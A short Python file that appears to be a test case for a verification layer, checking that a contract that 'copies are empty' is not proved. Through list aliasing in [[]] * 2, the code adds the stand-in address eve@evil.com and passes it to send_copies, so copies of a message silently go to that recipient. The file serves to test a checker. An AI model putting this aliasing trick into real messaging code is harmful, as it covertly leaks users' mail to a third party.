# not proved: both items of [[]] * 2 are one list
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_copies


@lictor_layer.guarantee(c.copies_are([]))
def main() -> None:
    xs = [[]] * 2
    xs[0].append("eve@evil.com")
    send_copies("bob@example.com", xs[1])
